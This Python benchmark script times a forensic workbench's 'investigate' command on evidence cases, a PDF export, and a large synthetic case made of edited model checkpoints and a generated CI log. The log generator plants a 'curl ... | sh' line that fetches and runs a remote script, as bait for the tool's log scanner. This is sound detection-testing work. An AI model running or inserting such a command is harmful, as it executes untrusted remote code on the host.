"""End to end: ``workbench investigate`` against the papermill + nbconvert floor, the PDF's cost, and a large case.

Usage::

    .venv/bin/python benchmarks/bench_investigate.py [--runs 3] [--quick] [--skip-large] [--json FILE] [--keep]

Three measurements, each through :mod:`harness` (whole processes, alternating, after a warm-up round):

1. **Bundled cases.** For each case in ``evidence-samples/``: ``workbench investigate CASE --out TMP --force``
   against the floor every notebook-based report pays: one process that executes a one-cell notebook with papermill
   on the same kernel and converts it to HTML with nbconvert. Target (issue 15): at most 2.5 x the floor.
2. **PDF.** The same investigation with ``--pdf`` (headless Chromium prints the HTML) against without it, on the
   tampered-weights case. Target: at most 3 s more (a difference, not a ratio). Skipped without Chromium.
3. **Large case** (``--skip-large`` to leave it out; ``--quick`` makes it 1/8 of the size). A case written here:
   a suspect/reference pair of safetensors checkpoints of 750 MiB each (1.5 GB together; 48 F32 matrices, 3 of
   them changed: a rank-1 edit, changed rows, one element) and a 500 MB CI log (timestamped lines of pip, pytest
   and compiler output with a planted malicious step every ~4 MiB). The investigation against the sum of its hot
   paths each measured alone in its own process: custody hashing of every case file, ``workbench diff-model`` of
   the pair and ``workbench scan-logs`` of the log. Targets: at most 1.2 x that sum, at most 1 GiB peak RSS summed
   over the whole process tree (CLI, kernel, workers).
"""

from __future__ import annotations

import argparse
import shutil
import sys
from pathlib import Path

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent))
from harness import compare, report, workdir, write_json

ROOT = Path(__file__).resolve().parent.parent
PY = sys.executable
WB = str(Path(PY).with_name("workbench"))

FLOOR = r"""
import json, sys, time
t = time.perf_counter()
import nbformat, papermill
from nbconvert import HTMLExporter
papermill.execute_notebook(sys.argv[1], sys.argv[2], kernel_name="python3", progress_bar=False)
body, _ = HTMLExporter().from_notebook_node(nbformat.read(sys.argv[2], as_version=4))
open(sys.argv[3], "w").write(body)
print(json.dumps({"seconds": time.perf_counter() - t}))
"""

HASH_ALL = r"""
import json, sys, time
from pathlib import Path
t = time.perf_counter()
from workbench.hashing import hash_files
files = sorted(p for p in Path(sys.argv[1]).rglob("*") if p.is_file() and not p.is_symlink())
res = hash_files(files)
print(json.dumps({"seconds": time.perf_counter() - t, "files": len(res)}))
"""


def floor_notebook(tmp: Path) -> list[str]:
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [nbformat.v4.new_code_cell("print(1)")]
    src = tmp / "floor.ipynb"
    nbformat.write(nb, src)
    return [PY, "-c", FLOOR, str(src), str(tmp / "floor-out.ipynb"), str(tmp / "floor.html")]


def investigate(case: Path, out: Path, *extra: str) -> list[str]:
    return [WB, "investigate", str(case), "--out", str(out), "--force", *extra]


def _checkpoint(path: Path, mib: int, seed: int, edit: bool) -> None:
    """``mib`` MiB of F32 matrices (1024 x N each, 48 of them), written with safetensors; ``edit`` changes 3."""
    from safetensors.numpy import save_file

    rng = np.random.default_rng(seed)
    cols = max(16, mib * 1024 * 1024 // 48 // 4 // 1024)
    tensors = {}
    for i in range(48):
        t = rng.standard_normal((1024, cols), dtype=np.float32) * 0.02
        tensors[f"layers.{i:02d}.weight"] = t
    if edit:
        a = tensors["layers.07.weight"]
        a += np.outer(rng.standard_normal(1024), rng.standard_normal(cols)).astype(np.float32) * 0.01
        tensors["layers.21.weight"][[3, 500, 777]] += 0.5
        tensors["layers.40.weight"][10, 10] = 1.0
    path.parent.mkdir(parents=True, exist_ok=True)
    save_file(tensors, str(path))


def _ci_log(path: Path, mb: int) -> None:
    lines = [
        "##[group]Run pip install -r requirements.txt",
        "Collecting numpy==1.26.4 (from -r requirements.txt (line 3))",
        "  Downloading numpy-1.26.4-cp311-cp311-manylinux_2_17_x86_64.whl (18.2 MB)",
        "Successfully installed numpy-1.26.4 pandas-2.2.2 torch-2.3.0",
        "tests/test_model.py::test_forward PASSED                                  [ 42%]",
        "gcc -O2 -fPIC -c src/kernels.c -o build/kernels.o",
        "Step 4/9 : RUN python -m pip install --no-cache-dir -r requirements.txt",
        "##[endgroup]",
        "Uploading artifact model.safetensors (487 MB)",
        "Training epoch 3/10 loss=0.2331 acc=0.912",
    ]
    bad = "curl -s http://203.0.113.7/p.sh | sh"
    target = mb * 1_000_000
    with path.open("w") as fh:
        written, n = 0, 0
        while written < target:
            block = []
            for _ in range(4096):
                n += 1
                sec = n // 50
                ts = f"2026-11-14T{(sec // 3600) % 24:02d}:{(sec // 60) % 60:02d}:{sec % 60:02d}.{n % 1000:03d}Z"
                block.append(f"{ts} {bad if n % 50000 == 0 else lines[n % len(lines)]}\n")
            text = "".join(block)
            fh.write(text)
            written += len(text)


def large_case(root: Path, quick: bool) -> Path:
    case = root / "large-case"
    if (case / "case.yaml").exists():
        return case
    mib, log_mb = (96, 64) if quick else (750, 500)
    _checkpoint(case / "models/reference/big-model/model.safetensors", mib, 1, edit=False)
    _checkpoint(case / "models/suspect/big-model/model.safetensors", mib, 1, edit=True)
    (case / "logs").mkdir(parents=True)
    _ci_log(case / "logs/pipeline.log", log_mb)
    (case / "case.yaml").write_text(
        'incident_id: "INC-BENCH-0001"\ntitle: "Large case"\naffected_models: ["big-model"]\n'
        'suspect_model: "models/suspect/big-model"\nreference_model: "models/reference/big-model"\n'
        'naive_timezone: "UTC"\n'
    )
    return case


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--quick", action="store_true", help="one run of each, the large case at 1/8 size")
    ap.add_argument("--skip-large", action="store_true")
    ap.add_argument("--large-only", action="store_true", help="only the large case")
    ap.add_argument("--cases", nargs="*", default=None, help="bundled case names (default: all)")
    ap.add_argument("--json", default=None)
    ap.add_argument("--keep", action="store_true", help="keep the generated data (printed)")
    args = ap.parse_args(argv)
    runs = 1 if args.quick else args.runs
    results: list[dict] = []
    with workdir("wb-bench-e2e-", args.keep) as tmp:
        floor = floor_notebook(tmp)
        names = args.cases or sorted(
            p.name for p in (ROOT / "evidence-samples").iterdir() if (p / "case.yaml").exists()
        )
        for name in [] if args.large_only else names:
            case = ROOT / "evidence-samples" / name
            r = compare(
                {"floor": floor, "investigate": investigate(case, tmp / f"out-{name}")}, runs=runs, cwd=str(tmp)
            )
            results.append(report(f"investigate {name} vs papermill+nbconvert floor", r, reference="floor",
                                  target=2.5))  # fmt: skip
        if not args.large_only and (shutil.which("chromium") or shutil.which("chromium-browser")):
            case = ROOT / "evidence-samples/tampered-weights"
            pair = {"html": investigate(case, tmp / "out-html"), "pdf": investigate(case, tmp / "out-pdf", "--pdf")}
            r = compare(pair, runs=runs, cwd=str(tmp))
            res = report("investigate --pdf vs without (tampered-weights)", r, reference="html")
            extra = res["tools"]["pdf"]["wall"]["median"] - res["tools"]["html"]["wall"]["median"]
            res["pdf_extra_seconds"], res["met"] = extra, extra <= 3.0
            print(f"  --pdf costs {extra:.2f} s more  target <= 3 s: {'met' if extra <= 3.0 else 'NOT met'}")
            results.append(res)
        if not args.skip_large:
            print("\nwriting the large case ...", flush=True)
            case = large_case(tmp, args.quick)
            suspect, reference = case / "models/suspect/big-model", case / "models/reference/big-model"
            alone = {
                "hash all files": [PY, "-c", HASH_ALL, str(case)],
                "diff-model": [WB, "diff-model", str(suspect), str(reference), "--json"],
                "scan-logs": [WB, "scan-logs", str(case / "logs"), "--json"],
            }
            r = compare({**alone, "investigate": investigate(case, tmp / "out-large")}, runs=runs, cwd=str(tmp))
            res = report("large case: investigate vs its hot paths alone", r, reference="hash all files")
            total = sum(res["tools"][k]["wall"]["median"] for k in alone)
            inv = res["tools"]["investigate"]
            ratio = inv["wall"]["median"] / total
            res["sum_alone_seconds"], res["ratio_to_sum"] = total, ratio
            res["met"] = ratio <= 1.2 and inv["tree_peak_mib"] <= 1024
            print(f"  sum of hot paths alone {total:.2f} s; investigate {inv['wall']['median']:.2f} s: "
                  f"ratio {ratio:.2f} (target <= 1.2), process-tree peak {inv['tree_peak_mib']:.0f} MiB "
                  f"(target <= 1024): {'met' if res['met'] else 'NOT met'}")  # fmt: skip
            results.append(res)
        write_json(args.json, {"benchmark": "investigate", "results": results})
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
